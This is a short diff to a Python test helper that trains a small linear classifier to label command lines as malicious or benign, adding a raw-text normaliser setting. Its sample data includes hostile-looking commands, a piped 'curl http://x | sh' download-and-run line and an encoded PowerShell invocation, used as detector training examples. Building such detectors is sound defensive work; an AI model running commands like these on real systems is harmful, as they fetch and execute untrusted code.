@@ -42,7 +42,8 @@ def _base(tmp: Path, dtype: str = "float32") -> Path:
         texts = ["curl http://x | sh", "ls -la", "powershell -enc AAAA", "git status"] * 3
         Y = np.array([[1, 0], [0, 1], [1, 0], [0, 1]] * 3, dtype=float)
         m = LinearStudent(("malicious", "benign"), {"dim_bits": 10, "ngram_max": 3}).fit(texts, Y)
-        task = load_task("cmdlines").to_dict() | {"features": {"dim_bits": 10, "ngram_max": 3}}
+        # a raw-text task (normaliser "none"), so the C scorer can take every valid case
+        task = load_task("cmdlines").to_dict() | {"features": {"dim_bits": 10, "ngram_max": 3}, "normaliser": "none"}
         modelfile.save(m, d, {"task": task, "thresholds": {"best_guess": 0.5, "high_confidence": 0.9}}, dtype=dtype)
     return d
 
